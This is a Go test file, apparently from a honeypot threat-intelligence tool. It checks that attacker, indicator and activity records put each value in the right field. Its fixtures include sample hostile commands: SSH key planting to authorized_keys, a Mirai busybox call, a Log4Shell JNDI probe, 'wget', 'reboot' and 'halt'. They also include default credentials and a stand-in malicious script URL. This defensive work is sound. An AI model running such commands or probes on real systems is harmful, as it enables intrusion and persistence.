		"country_code":         `"CL"`, "country_name": `"Chile"`, "network_type": `"vpn"`, "network_type_source": `"MISP vpn-ipv4 2025-12-23"`, "country_source": `"Test-City"`, "asn": "64499", "as_name": `"Example SA"`, "as_network": `"185.220.0.0/16"`, "as_cidr": `"185.220.0.0/16"`,
		"asn_source": `"Test-ASN"`, "ptr_record": `"host.example"`,
		"risk.score": aScore, "risk.level": `"High"`,
		"risk.reasons": `[{"id":"calls","reason":"calls home","stage":"inside","weight":40,"points":8,"evidence":["fetch"]},` +
			`{"id":"guesses","reason":"tried 1006 logins","stage":"attempting","weight":90,"points":2.7},{"id":"tries","reason":"tries to get in","stage":"attempting","weight":40,"points":0.93,"evidence":["T1110"]}]`,
		"risk.stage": `"inside"`, "risk.confidence": `"High"`, "risk.base": "60", "risk.half_life_d": "30",
		"login_inferred": "false", "risk.since.attempting": clock(91), "risk.since.inside": clock(101), "classification": `"malicious"`,
		"behavior.conclusions": fmt.Sprintf(`[{"rule":"gone","stage":"looking","saw":"GET /","count":74,"first_seen":%s,"last_seen":%s},`+
			`{"rule":"fetch","why":"fetches a file","technique":"T1105","tactic":"TA0011","severity":"medium","stage":"inside","saw":"wget x","count":73,"first_seen":%s,"last_seen":%s},`+
			`{"rule":"fetch","why":"fetches a file","technique":"T1105","tactic":"TA0011","severity":"medium","asked_only":true,"stage":"attempting","saw":"a?x=wget","count":75,"first_seen":%s,"last_seen":%s}]`,
			clock(99), clock(100), clock(101), clock(102), clock(103), clock(104)),
		"sensors": `["sensor-a","sensor-b"]`, "spoofable": "false", "scope": `"internal"`, "host.name": `"files-1"`,
		"transitions":         fmt.Sprintf(`{"observed":%s,"traversal":%s,"login_success":%s,"hands_on":%s}`, clock(1), clock(6), clock(40), clock(44)),
		"threat.technique.id": `["T1105","T1110","T1595.001"]`, "threat.technique.name": `["Ingress Tool Transfer","Brute Force","Scanning IP Blocks"]`,
		"threat.tactic.id": `["TA0006","TA0011","TA0043"]`, "threat.tactic.name": `["Credential Access","Command and Control","Reconnaissance"]`,
		"threat.framework": `"MITRE ATT&CK"`, "threat.feed.name": `"Dossier"`,
		"threat.indicator.type": `"ipv4-addr"`, "threat.indicator.name": `"185.220.101.4"`, "threat.indicator.ip": `"185.220.101.4"`,
		"threat.indicator.first_seen": clock(1), "threat.indicator.last_seen": clock(999), "threat.indicator.modified_at": clock(999),
		"threat.indicator.sightings": "1001", "threat.indicator.confidence": `"High"`, "threat.indicator.provider": `"Dossier"`,
		"threat.indicator.description": `"185.220.101.4 runs a script on the decoys it got into: fetches a file (sqlmap tool); 1001 events on 5 services of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files, asked to pass on to c.example:25 and 1 other"`,
		"threat.indicator.marking.tlp": `"GREEN"`, "threat.indicator.geo.country_iso_code": `"CL"`, "threat.indicator.geo.country_name": `"Chile"`, "threat.indicator.geo.location": location,
		"threat.indicator.as.number": "64499", "threat.indicator.as.organization.name": `"Example SA"`,
		"related.ip": `["185.220.101.4","81.2.69.142"]`, "related.user": `["admin","root"]`,
		"related.hosts": `["alpha","bravo","charlie","delta","host.example"]`,
		"related.hash":  list(`"`+file+`"`, `"`+mail+`"`, `"`+certificate+`"`, `"v-cert"`, `"v-hassh"`, `"v-ja3"`, `"v-ja3s"`, `"v-jarm"`),
		"ecs.version":   `"9.4.0"`, "event.kind": `"enrichment"`, "event.category": `["threat"]`, "event.type": `["indicator"]`,
		"event.module": `"ti_dossier"`, "event.dataset": `"ti_dossier.attackers"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
	}
}

// Every field of every document shows its own figure and no other's.
func TestEveryFieldHasItsOwnSource(t *testing.T) {
	r := figuresRenderer(t)
	asserted := map[Kind]map[string]bool{}
	s := numbered()
	s.Untold = 1012 // truncated says so: TestTruncatedNamesWhatTheFoldCut
	distinctFigures(t, "attacker", s)
	s.Untold = 0
	head := headOf(someone)
	shows(t, "an attacker", Attackers, r.AppendAttacker(nil, head, s), attackerRows(r), asserted)

	// What is claimed of the same attacker, and what decoys did: it counts, and
	// changes nothing else.
	s = claiming(numbered())
	distinctFigures(t, "claimed", &s.Claimed)
	shows(t, "an attacker of whom more is claimed", Attackers, r.AppendAttacker(nil, head, s), with(attackerRows(r), map[string]string{
		"@timestamp": clock(1999), "first_seen": clock(0), "last_seen": clock(1999), "event_count": "6011", "command_count": "3010",
		"login_attempts": "3012", "login_successes": "3014", "credential_count": "4", "bounty_count": "24", "behavior.phase.large_payload_count": "3018",
		"services": `["ftp","http","smtp","snmp","ssh","telnet"]`, "service_count": "6", "services_interacted": `["smtp","snmp","ssh"]`,
		"deckies": `["delta","echo","alpha","charlie","bravo"]`, "decky_count": "5", "related.hosts": `["alpha","bravo","charlie","delta","echo","host.example"]`,
		"claimed.event_count": "2001", "claimed.first_seen": clock(1998), "claimed.last_seen": clock(1999), "claimed.command_count": "2005",
		"claimed.login_attempts": "2006", "claimed.login_successes": "2007", "claimed.services": `["snmp","ssh"]`, "claimed.deckies": `["delta","echo"]`,
		"claimed.kinds": `["alert","command","file","fingerprint","ip_leak","login","technique"]`,
		"claimed.evidence": `[{"kind":"login","service":"snmp","secret_kind":"snmp_community","secret":"public","secret_sha256":"` + strings.Repeat("d4", 32) + `","outcome":"success",` + claims(1) + `},` +
			`{"kind":"login","principal":"root",` + claims(2) + `},{"kind":"command","service":"tftp","value":"RRQ x",` + claims(3) + `},` +
			`{"kind":"fingerprint","type":"ja4_quic","value":"q",` + claims(4) + `},{"kind":"file","sha256":"ff","url":"http://x/","file":"file",` + claims(5) + `},` +
			`{"kind":"ip_leak","claimed_ip":"9.9.9.9","header":"XFF",` + claims(6) + `},{"kind":"alert","value":"SIG","category":"CAT","severity":2,` + claims(7) + `},` +
			`{"kind":"technique","value":"T1046","why":"because",` + claims(8) + `}]`,
		"claimed.commands":             fmt.Sprintf(`[{"timestamp":%s,"service":"ssh","decky":"echo","command":"reboot"},{"timestamp":%s,"service":"ssh","decky":"delta","command":"halt"}]`, clock(2001), clock(2002)),
		"threat.indicator.description": `"185.220.101.4 runs a script on the decoys it got into: fetches a file (sqlmap tool); 6011 events (2001 claimed) on 6 services of 5 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files, asked to pass on to c.example:25 and 1 other"`,
	}), asserted)

	// The same as a network, of which some lists are cut.
	network := networkHead()
	network.State = []byte("state")
	s = numbered()
	s.Handshake = false
	for i := range 5000 {
		s.Domains.Add(fmt.Sprint("domain", i), state.LimitDomains)
	}
	s.Sensors.Add(law.Entry{Key: "sensor-c"}, law.Limit{Keys: 2})
	sensors := s.Sensors.Keys()
	dropped := s.Domains.Count() - 2000
	if dropped < 2000 || dropped > 4000 {
		t.Fatalf("5000 domains are estimated as %d", dropped+2000)
	}
	ofNetwork := with(attackerRows(r), map[string]string{
		"ip": "null", "network": `"2a00:1450:4001::/48"`, "cidr": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "scope": `"external"`, "host.name": "null", "network_type": "null", "network_type_source": "null",
		"as_network": `"2a00:1450::/32"`, "as_cidr": `"2a00:1450::/32"`, "smtp_domain_count": fmt.Sprint(dropped + 2000), "smtp_domains_dropped": fmt.Sprint(dropped),
		"behavior.kind": `"scan"`, "behavior.kind_why": `"looks at services: 5"`,
		"risk.score": "0", "risk.level": `"Unknown"`, "spoofable": "true", "threat.indicator.confidence": `"Low"`,
		"risk.stage": `"none"`, "risk.confidence": `"Low"`, "risk.base": "0", "risk.half_life_d": "7", "risk.since.looking": "null", "risk.since.attempting": "null", "risk.since.inside": "null", "classification": `"suspicious"`,
		"risk.reasons":          "null",
		"threat.indicator.type": `"ipv6-addr"`, "threat.indicator.name": `"2a00:1450:4001::/48"`,
		"threat.indicator.ip":          `["2a00:1450:4001::1","2a00:1450:4001::2"]`,
		"threat.indicator.description": `"2a00:1450:4001::/48 looks for services: fetches a file (sqlmap tool); 1001 events on 5 services of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files, asked to pass on to c.example:25 and 1 other"`,
		"related.ip":                   `["2a00:1450:4001::1","2a00:1450:4001::2","81.2.69.142"]`,
		"sensors":                      fmt.Sprintf("[%q,%q]", sensors[0], sensors[1]), "truncated": `["sensors","smtp_domain_count"]`,
	})
	shows(t, "a network", Attackers, r.AppendAttacker(nil, network, s), ofNetwork, asserted)

	// The same as a beacon: one service, a steady beat of which mean, median and
	// spread differ.
	s = numbered()
	s.Services.Reset()
	s.Services.Add(law.Entry{Key: "ssh", Count: 5, Rank: uint8(event.Scan)}, large)
	s.Times = times(1767340802*1e6, 50, 61, 70, 55, 66, 64, 48)
	beat := with(attackerRows(r), map[string]string{
		"services": `["ssh"]`, "service_count": "1", "services_scanned": `["ssh"]`, "services_interacted": `[]`,
		"behavior.kind": `"relay"`, "behavior.kind_why": `"mails to be relayed: 1"`,
		"behavior.class": `"beaconing"`, "behavior.timing.event_count": "8", "behavior.timing.duration_s": "414",
		"behavior.timing.mean_iat_s": "59.143", "behavior.timing.median_iat_s": "61", "behavior.timing.stdev_iat_s": "7.717",
		"behavior.timing.min_iat_s": "48", "behavior.timing.max_iat_s": "70", "behavior.timing.cv": "0.1305",
		"behavior.beacon.interval_s": "59.143", "behavior.beacon.jitter_pct": "13.05",
		// Quartiles 50, 61 and 66: skew 1 − 6/16, spread (61 − 6)/61; one hour of
		// 24 tells nothing of the day.
		"behavior.beacon.ts_score": "0.763", "behavior.beacon.hist_score": "0", "behavior.beacon.dur_score": "0", "behavior.beacon.score": "0.254",
		"behavior.profile_evidence": `[{"technique":"T1595","why":"looks at services","first_seen":` + clock(1) + `,"last_seen":` + clock(999) + `}]`,
		"threat.technique.id":       `["T1105","T1110","T1595"]`, "threat.technique.name": `["Ingress Tool Transfer","Brute Force","Active Scanning"]`,
		"threat.tactic.id": `["TA0006","TA0011","TA0043"]`, "threat.tactic.name": `["Credential Access","Command and Control","Reconnaissance"]`,
		"threat.indicator.description": `"185.220.101.4 uses decoys to relay mail or connections: fetches a file (sqlmap tool); 1001 events on 1 service of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files, asked to pass on to c.example:25 and 1 other"`,
	})
	shows(t, "a beacon", Attackers, r.AppendAttacker(nil, head, s), beat, asserted)

	// Somebody who types, and names of each kind.
	person := typing("s1", []float64{0, 4, 9, 2.5, 14, 21}, "sl -la", "ls -la", "/bin/busybox MIRAI", "echo mdrfckr >> ~/.ssh/authorized_keys", "w", "exit")
	person[0].Evidence = append(person[0].Evidence, event.Evidence{Kind: event.Fingerprint, A: "ssh_client_banner", B: "SSH-2.0-masscan"})
	known := renderer(t, Options{})
	doc := decode(t, known.AppendAttacker(nil, head, folded(known, person)))
	for name, want := range map[string]any{
		"behavior.kind": "hands_on", "behavior.kind_why": "pauses of 2.5 to 21.0 s between the commands of a session, mistyped and put right: 1",
		"behavior.pauses.count": 5.0, "behavior.pauses.median_s": 9.0, "behavior.pauses.min_s": 2.5, "behavior.pauses.max_s": 21.0, "behavior.pauses.corrected": 1.0,
		"software.scanner": []any{"masscan"}, "software.malware": []any{"mirai"}, "threat.group.name": []any{"outlaw"}, "threat.group.id": nil, "threat.software.id": nil,
		"threat.software.name": []any{"masscan", "mirai"}, "threat.software.type": []any{"Tool", "Malware"},
		"rules.version": known.o.Rules.Version(), "rules.lists_date": known.o.Rules.ScannersDate(),
	} {
		if got := at(doc, name); !reflect.DeepEqual(got, want) {
			t.Errorf("%s is %v, want %v", name, got, want)
		}
		asserted[Attackers][name] = true
	}

	// One contact a second.
	s = numbered()
	for range 86400 {
		s.Hours.Add(moment(7200), 24)
	}
	for i := range 600 {
		s.Times.Add(moment(7200)+event.Time(i)*second, 512)
	}
	doc = decode(t, r.AppendAttacker(nil, head, s))
	if beacon := at(doc, "behavior.beacon"); !reflect.DeepEqual(beacon, map[string]any{"strobe": true}) {
		t.Errorf("a strobe shows %v", beacon)
	}
	asserted[Attackers]["behavior.beacon.strobe"] = true

	thing := new(state.Indicator)
	thing.First, thing.Last, thing.Count, thing.Claimed, thing.Fetched = moment(1), moment(2), 4001, 4002, 4003
	for _, key := range []string{"b", "a"} {
		thing.Services.Add(law.Entry{Key: "service-" + key}, large)
		thing.Deckies.Add(law.Entry{Key: "decky-" + key}, large)
		thing.Sensors.Add(law.Entry{Key: "sensor-" + key}, large)
		thing.Attackers.Add(law.Entry{Key: "198.51.100." + key}, large)
		thing.Uses.Add(law.Entry{Key: "use-" + key, Count: 4004}, large)
	}
	distinctFigures(t, "indicator", thing)
	ofThing := map[string]string{
		"@timestamp": clock(2), "indicator.kind": `"url"`, "indicator.value": `"http://evil.acme.co.uk:81/a/b.sh?c=d"`, "indicator.use": `["use-a","use-b"]`,
		"first_seen": clock(1), "last_seen": clock(2), "updated_at": writtenText, "count": "4001", "claimed_count": "4002", "contact_count": "4003",
		"attackers": `["198.51.100.a","198.51.100.b"]`, "attacker_count": "2", "services": `["service-a","service-b"]`, "deckies": `["decky-a","decky-b"]`,
		"sensors": `["sensor-a","sensor-b"]`, "published": "true", "threat.feed.name": `"Dossier"`, "threat.indicator.type": `"url"`,
		"threat.indicator.name": `"http://evil.acme.co.uk:81/a/b.sh?c=d"`, "threat.indicator.url.full": `"http://evil.acme.co.uk:81/a/b.sh?c=d"`,
		"threat.indicator.url.original": `"http://evil.acme.co.uk:81/a/b.sh?c=d"`, "threat.indicator.url.scheme": `"http"`,
		"threat.indicator.url.domain": `"evil.acme.co.uk"`, "threat.indicator.url.port": "81", "threat.indicator.url.path": `"/a/b.sh"`,
		"threat.indicator.url.query": `"c=d"`, "threat.indicator.url.extension": `"sh"`, "threat.indicator.url.registered_domain": `"acme.co.uk"`,
		"threat.indicator.domain": `"evil.acme.co.uk"`, "threat.indicator.first_seen": clock(1), "threat.indicator.last_seen": clock(2),
		"threat.indicator.modified_at": clock(2), "threat.indicator.sightings": "4001", "threat.indicator.confidence": `"High"`,
		"threat.indicator.provider": `"Dossier"`, "threat.indicator.marking.tlp": `"GREEN"`,
		"threat.indicator.description": `"URL that 2 attackers used, in 4001 events; decoys fetched it themselves 4003 times"`,
		"related.hosts":                `["evil.acme.co.uk"]`, "event.kind": `"enrichment"`, "event.category": `["threat"]`, "event.type": `["indicator"]`,
		"event.module": `"ti_dossier"`, "event.dataset": `"ti_dossier.indicators"`, "ecs.version": `"9.4.0"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
	}
	shows(t, "a URL", Indicators, r.AppendIndicator(nil, head, "url", "http://evil.acme.co.uk:81/a/b.sh?c=d", thing), ofThing, asserted)
	none := map[string]string{"related.hosts": "null", "threat.indicator.domain": "null"}
	for name := range ofThing {
		if strings.HasPrefix(name, "threat.indicator.url.") {
			none[name] = "null"
		}
	}
	of := func(kind, value, schema, word string, also map[string]string) {
		rows := with(with(ofThing, none), map[string]string{
			"indicator.kind": `"` + kind + `"`, "indicator.value": `"` + value + `"`, "threat.indicator.name": `"` + value + `"`, "threat.indicator.type": `"` + schema + `"`,
			"threat.indicator.description": `"` + word + ` that 2 attackers used, in 4001 events; decoys fetched it themselves 4003 times"`,
		})
		shows(t, kind, Indicators, r.AppendIndicator(nil, head, kind, value, thing), with(rows, also), asserted)
	}
	of("ip", "203.0.113.9", "ipv4-addr", "Address", map[string]string{"threat.indicator.ip": `"203.0.113.9"`, "related.ip": `["203.0.113.9"]`})
	of("ip", "2a00::1", "ipv6-addr", "Address", map[string]string{"threat.indicator.ip": `"2a00::1"`, "related.ip": `["2a00::1"]`})
	of("domain", "evil.acme.co.uk", "domain-name", "Host", map[string]string{
		"threat.indicator.domain": `"evil.acme.co.uk"`, "threat.indicator.url.domain": `"evil.acme.co.uk"`,
		"threat.indicator.url.registered_domain": `"acme.co.uk"`, "related.hosts": `["evil.acme.co.uk"]`,
	})
	for _, kind := range []string{"sha256", "sha1", "md5"} {
		of(kind, "aa", "file", "File", map[string]string{"threat.indicator.file.hash." + kind: `"aa"`, "related.hash": `["aa"]`})
	}
	of("email", "me@evil.example", "email-addr", "Mail address", map[string]string{"threat.indicator.email.address": `"me@evil.example"`})
	of("wallet", "44w", "artifact", "Wallet", nil)
	of("key_comment", "mdrfckr", "artifact", "Comment of an SSH key", nil)
	of("ip", "8.8.8.8", "ipv4-addr", "Address", map[string]string{
		"threat.indicator.ip": `"8.8.8.8"`, "related.ip": `["8.8.8.8"]`, "published": "false", "unpublished_why": `["benign_host"]`, "threat.indicator.confidence": `"Low"`,
		"threat.indicator.description": `"Address that 2 attackers used, in 4001 events; decoys fetched it themselves 4003 times; not published: benign host"`,
	})
	thing.Attackers.Add(law.Entry{Key: "198.51.100.c"}, law.Limit{Keys: 2})
	if doc := decode(t, r.AppendIndicator(nil, head, "wallet", "44w", thing)); fmt.Sprint(doc["truncated"]) != "[attacker_count attackers]" {
		t.Errorf("attackers are cut: truncated is %v", doc["truncated"])
	}
	asserted[Indicators]["truncated"] = true

	target := new(state.Target)
	target.First, target.Last, target.Count, target.Accepted, target.Denied, target.Messages = moment(1), moment(2), 3001, 3002, 3003, 3004
	for _, key := range []string{"b", "a"} {
		target.Services.Add(law.Entry{Key: "service-" + key}, large)
		target.Deckies.Add(law.Entry{Key: "decky-" + key}, large)
		target.Sensors.Add(law.Entry{Key: "sensor-" + key}, large)
	}
	target.Summary = law.Latest{Time: 1001, Value: string(r.AppendSummary(nil, head, numbered()))}
	distinctFigures(t, "target", target)
	ofTarget := map[string]string{
		"@timestamp": clock(2), "ip": `"185.220.101.4"`, "uuid": someoneUUID, "domain": `"mail.acme.co.uk"`, "registrable_domain": `"acme.co.uk"`,
		"first_seen": clock(1), "last_seen": clock(2), "updated_at": writtenText, "count": "3001", "rcpt_accepted_count": "3002",
		"rcpt_denied_count": "3003", "message_count": "3004", "services": `["service-a","service-b"]`, "deckies": `["decky-a","decky-b"]`,
		"sensors": `["sensor-a","sensor-b"]`, "country_code": `"CL"`, "country_name": `"Chile"`, "network_type": `"vpn"`, "risk.level": `"High"`, "behavior.class": `"slow_scan"`, "ecs.version": `"9.4.0"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
	}
	shows(t, "a target", Targets, r.AppendTarget(nil, head, "mail.acme.co.uk", target), ofTarget, asserted)
	target.Deckies.Add(law.Entry{Key: "decky-c"}, law.Limit{Keys: 2})
	deckies := target.Deckies.Keys()
	shows(t, "a network's target", Targets, r.AppendTarget(nil, network, "mail.acme.co.uk", target), with(ofTarget, map[string]string{
		"ip": "null", "network": `"2a00:1450:4001::/48"`, "cidr": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "deckies": fmt.Sprintf("[%q,%q]", deckies[0], deckies[1]),
		"truncated": `["deckies"]`, "network_type": "null",
	}), asserted)

	hour := new(state.Activity)
	hour.Events, hour.Kinds = 2001, [3]int64{event.Noise: 2002, event.Scan: 2003, event.Interaction: 2004}
	hour.CommandCount, hour.Attempts, hour.Successes, hour.Recipients, hour.Claimed = 2005, 2006, 2007, 2008, 2012
	hour.Unnamed.Guessed = 2015
	for _, key := range []string{"b", "a"} {
		hour.Services.Add(law.Entry{Key: "service-" + key}, large)
		hour.Deckies.Add(law.Entry{Key: "decky-" + key}, large)
		hour.Sensors.Add(law.Entry{Key: "sensor-" + key}, large)
	}
	// Two were tried as often: the one without a service is the smaller key.
	for _, c := range []struct {
		service, principal, kind, secret string
		digest                           byte
		tried, admitted                  int64
	}{{"ssh", "root", "plaintext", "toor", 0xd1, 2009, 2010}, {"telnet", "admin", "plaintext", "1234", 0xd2, 2011, 0}, {"", "", "md5", "hash", 0xd3, 2009, 0}} {
		e := event.Evidence{A: c.principal, B: c.kind, Digest: [32]byte(slices.Repeat([]byte{c.digest}, 32))}
		key := state.CredentialKey(new(event.Arena), c.service, &e)
		hour.Tried.Add(law.Entry{Key: key, Count: c.tried, Payload: c.secret}, large)
		if c.admitted > 0 {
			hour.Admitted.Add(law.Entry{Key: key, Count: c.admitted}, large)
		}
	}
	hour.Ports.Add(law.Entry{Key: state.PortKey(new(event.Arena), event.TCP, 2013), Count: 2014, First: moment(3701), Last: moment(3702), Rank: 1}, large)
	hour.Commands.Add(law.Item{Time: moment(3700), A: "ssh", B: "delta", C: "id"}, large)
	hour.Lines.Add(law.Entry{Key: "uname -a"}, large)
	hour.Summary = law.Latest{Time: 1001, Value: string(r.AppendSummary(nil, head, numbered()))}
	distinctFigures(t, "activity", hour)
	ofHour := map[string]string{
		"@timestamp": clock(3600), "event.kind": `"metric"`, "event.module": `"dossier"`, "event.dataset": `"dossier.activity"`,
		"source.ip": `"185.220.101.4"`, "source.geo.country_iso_code": `"CL"`, "source.geo.country_name": `"Chile"`, "source.geo.location": location, "source.as.number": "64499",
		"source.as.organization.name": `"Example SA"`, "uuid": someoneUUID, "observer.name": `["sensor-a","sensor-b"]`,
		"ports": `[{"transport":"tcp","port":2013,"proven":true,"count":2014,"first_seen":` + clock(3701) + `,"last_seen":` + clock(3702) + `}]`, "port_count": "1", "port.name": `["tcp/2013"]`,
		"activity.events": "2001", "activity.interactions": "2004", "activity.scans": "2003", "activity.commands": "2005",
		"activity.login_attempts": "2006", "activity.login_successes": "2007", "activity.recipients": "2008", "activity.claimed": "2012",
		"services": `["service-a","service-b"]`, "service_guessed": "2015", "deckies": `["decky-a","decky-b"]`,
		"commands":     fmt.Sprintf(`[{"timestamp":%s,"service":"ssh","decky":"delta","command":"id"}]`, clock(3700)),
		"command.line": `["id","uname -a"]`, "credential.username": `["admin","root"]`,
		"credentials.tried": `[{"service":"telnet","user":"admin","secret_kind":"plaintext","secret":"1234","secret_sha256":"` + strings.Repeat("d2", 32) + `","attempts":2011,"successes":0},` +
			`{"secret_kind":"md5","secret":"hash","secret_sha256":"` + strings.Repeat("d3", 32) + `","attempts":2009,"successes":0},` +
			`{"service":"ssh","user":"root","secret_kind":"plaintext","secret":"toor","secret_sha256":"` + strings.Repeat("d1", 32) + `","attempts":2009,"successes":2010}]`,
		"event_count": "1001", "service_count": "5", "decky_count": "4", "bounty_count": "20", "credential_count": "3", "is_traversal": "true",
		"risk.score": aScore, "risk.level": `"High"`, "behavior.class": `"slow_scan"`, "country_code": `"CL"`, "network_type": `"vpn"`, "asn": "64499",
		"scope": `"internal"`, "host.name": `"files-1"`, "updated_at": writtenText, "ecs.version": `"9.4.0"`, "schema_version": schemaText, "state": `"c3RhdGU="`,
	}
	shows(t, "an hour", Activity, r.AppendActivity(nil, head, moment(3600), hour), ofHour, asserted)
	hour.Services.Add(law.Entry{Key: "service-c"}, law.Limit{Keys: 2})
	services := hour.Services.Keys()
	shows(t, "a network's hour", Activity, r.AppendActivity(nil, network, moment(3600), hour), with(ofHour, map[string]string{
		"scope": `"external"`, "host.name": "null", "network_type": "null", "source.ip": "null", "network": `"2a00:1450:4001::/48"`, "cidr": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "services": fmt.Sprintf("[%q,%q]", services[0], services[1]),
		"truncated": `["services"]`,
	}), asserted)

	for action, c := range map[string]struct{ value, message string }{
		Observed: {"", "seen for the first time"}, Traversal: {"", "moved to a second decoy"}, LoginSuccess: {"", "logged in for the first time"},
		HandsOn: {"", "gives commands after a login"}, ClassSeen: {"scanning", "behaves as scanning"}, RiskReached: {"Moderate", "risk reached Moderate"},
		StageReached: {"inside", "reached the stage of inside"},
	} {
		crossed := state.Transition{Action: action, Value: c.value, Time: moment(777)}
		value := "null"
		if c.value != "" {
			value = `"` + c.value + `"`
		}
		rows := map[string]string{
			"@timestamp": clock(777), "event.ingested": writtenText, "event.kind": `"event"`, "event.category": `["intrusion_detection"]`,
			"event.type": `["info"]`, "event.action": `"` + action + `"`, "event.module": `"dossier"`, "event.dataset": `"dossier.transitions"`,
			"event.risk_score": aScore, "message": `"185.220.101.4: ` + c.message + `"`, "transition.value": value,
			"source.ip": `"185.220.101.4"`, "source.geo.country_iso_code": `"CL"`, "source.geo.country_name": `"Chile"`, "source.geo.location": location, "source.as.number": "64499",
			"source.as.organization.name": `"Example SA"`, "uuid": someoneUUID, "observer.name": `["sensor-a","sensor-b"]`,
			"first_seen": clock(1), "last_seen": clock(999), "event_count": "1001", "services": `["ftp","http","smtp","ssh","telnet"]`,
			"service_count": "5", "decky_count": "4", "is_traversal": "true", "traversal_path": `"delta → alpha → charlie → bravo"`,
			"login_attempts": "1006", "login_successes": "1007", "command_count": "1005", "bounty_count": "20",
			"behavior.class": `"slow_scan"`, "behavior.kind": `"automated_session"`, "behavior.tools": `["paramiko","sqlmap"]`, "risk.score": aScore, "risk.level": `"High"`,
			"risk.stage": `"inside"`, "classification": `"malicious"`, "spoofable": "false", "scope": `"internal"`, "host.name": `"files-1"`, "network_type": `"vpn"`, "threat.technique.id": `["T1105","T1110","T1595.001"]`, "related.ip": `["185.220.101.4"]`,
			"ecs.version": `"9.4.0"`, "schema_version": schemaText,
		}
		shows(t, "transition "+action, Transitions, r.AppendTransition(nil, head, crossed, numbered()), rows, asserted)
		shows(t, "a network's transition "+action, Transitions, r.AppendTransition(nil, network, crossed, numbered()), with(rows, map[string]string{
			"scope": `"external"`, "host.name": "null", "network_type": "null", "source.ip": "null", "network": `"2a00:1450:4001::/48"`, "cidr": `"2a00:1450:4001::/48"`, "uuid": networkUUID, "message": `"2a00:1450:4001::/48: ` + c.message + `"`,
			"related.ip": `["2a00:1450:4001::1","2a00:1450:4001::2"]`,
		}), asserted)
	}

	beats := &Heartbeat{
		Sensor: "sensor-1", Version: "v9", Started: figuresDay.Add(time.Second),
		RecordsIn: 1, RecordsOut: 2, ChunksIn: 3, ChunksOut: 4, ChunksSkipped: 5, BytesIn: 6, DocumentsWritten: 7, Unattributed: 8,
		Unparsed: 9, Dropped: 10, Malformed: 11, DeadLetters: 12, Conflicts: 13, Retries: 14, ClockSkew: 15, ExactnessAtRisk: 16,
		CacheDocuments: 17, CacheBytes: 18, Panics: 23, ServiceGuessed: 24, RecordsPerSecond: 27.5, Lag: 28 * time.Second, StateVersion: 29, Gateway: "10.9.9.9", GatewayEvents: 26,
		Reasons:         []RefusalCount{{"unparsed", "bad_json", 19}, {"dropped", "own_app", 20}},
		DroppedPrograms: []ProgramCount{{"cron", 21}, {"systemd", 22}},
		Ownerless:       []DecoyCount{{"decky-a", 24}, {"decky-b", 25}},
		LastError:       "no route", LastErrorAt: figuresDay.Add(2 * time.Second),
	}
	distinctFigures(t, "heartbeat", beats)
	shows(t, "a heartbeat", Sensors, AppendSensor(nil, written, beats), map[string]string{
		"@timestamp": writtenText, "sensor": `"sensor-1"`, "version": `"v9"`, "started_at": clock(1), "records_in": "1", "records_out": "2",
		"chunks_in": "3", "chunks_out": "4", "chunks_skipped": "5", "bytes_in": "6", "documents_written": "7", "unattributed": "8", "unparsed": "9",
		"dropped": "10", "malformed": "11", "dead_letters": "12", "conflicts": "13", "retries": "14", "clock_skew": "15", "exactness_at_risk": "16",
		"cache_documents": "17", "cache_bytes": "18", "panics": "23", "service_guessed": "24", "records_per_second": "27.5", "lag_s": "28", "state_version": "29", "gateway": `"10.9.9.9"`, "gateway_events": "26",
		"reasons":            `[{"verdict":"unparsed","reason":"bad_json","count":19},{"verdict":"dropped","reason":"own_app","count":20}]`,
		"ownerless_commands": `[{"decky":"decky-a","count":24},{"decky":"decky-b","count":25}]`,
		"dropped_programs":   `[{"program":"cron","count":21},{"program":"systemd","count":22}]`,
		"last_error":         `"no route"`, "last_error_at": clock(2), "ecs.version": `"9.4.0"`, "schema_version": schemaText,
	}, asserted)

	// The stages that the figures above leave out, and who is harmless.
	s = new(state.Attacker)
	s.Handshake, s.Events, s.Kinds, s.First, s.Last = true, 1, [3]int64{event.Scan: 1}, moment(1), moment(9)
	s.Conclusions.Add(law.Entry{Key: "4crontab", Count: 1, First: moment(5), Last: moment(6)}, large)
	s.Conclusions.Add(law.Entry{Key: "1snmp-read", Count: 1, First: moment(3), Last: moment(4)}, large)
	stages := decode(t, r.AppendAttacker(nil, head, s))
	listed := decode(t, r.AppendAttacker(nil, headOf(netip.MustParseAddr("71.6.135.131")), scanning()))
	noise := decode(t, r.AppendAttacker(nil, head, claimingNoise()))
	for name, c := range map[string]struct {
		doc  map[string]any
		want string
	}{
		"risk.since.looking": {stages, clock(3)}, "risk.since.acting": {stages, clock(5)}, "risk.stage": {stages, `"acting"`},
		"actor": {listed, `"Shodan"`}, "behavior.cadence_like": {listed, `["cobalt_strike"]`},
		"classification": {noise, `"benign"`}, "classification_basis": {noise, `"noise"`},
	} {
		if got, _ := json.Marshal(at(c.doc, name)); string(got) != c.want {
			t.Errorf("%s is %s, want %s", name, got, c.want)
		}
		asserted[Attackers][name] = true
	}

	flawed := numbered()
	flawed.Conclusions.Add(law.Entry{Key: "2log4shell", Count: 76, First: moment(105), Last: moment(106), Payload: "GET /${jndi:x}"}, large)
	for name, want := range map[string]string{"exploit.cve": "[CVE-2021-44228]", "exploit.request": "[GET /${jndi:x}]"} {
		if got := fmt.Sprint(at(decode(t, r.AppendAttacker(nil, head, flawed)), name)); got != want {
			t.Errorf("%s is %s, want %s", name, got, want)
		}
		asserted[Attackers][name] = true
	}

	// What the ledger's markers show, correlate writes.
	for _, k := range Kinds() {
		for _, f := range Fields(k) {
			if k != Chunks && f.Type != OtherName && !asserted[k][f.Name] {
				t.Errorf("%s: no test says where %s comes from", k, f.Name)
			}
		}
	}
}

// distinctFigures checks that a state, or a heartbeat, has a value in every
// exported field, and that no two of its numbers and times are equal: else a
// test of what stands where would pass by chance. A field that is added must be
// given a value.
func distinctFigures(t *testing.T, what string, of any) {
	t.Helper()
	v := reflect.ValueOf(of).Elem()
	seen := map[int64]string{}
	note := func(name string, n int64) {
		if other, known := seen[n]; known && n != 0 {
			t.Errorf("%s: %s and %s are both %d", what, other, name, n)
		}
		seen[n] = name
	}
	for i := range v.NumField() {
		f := v.Type().Field(i)
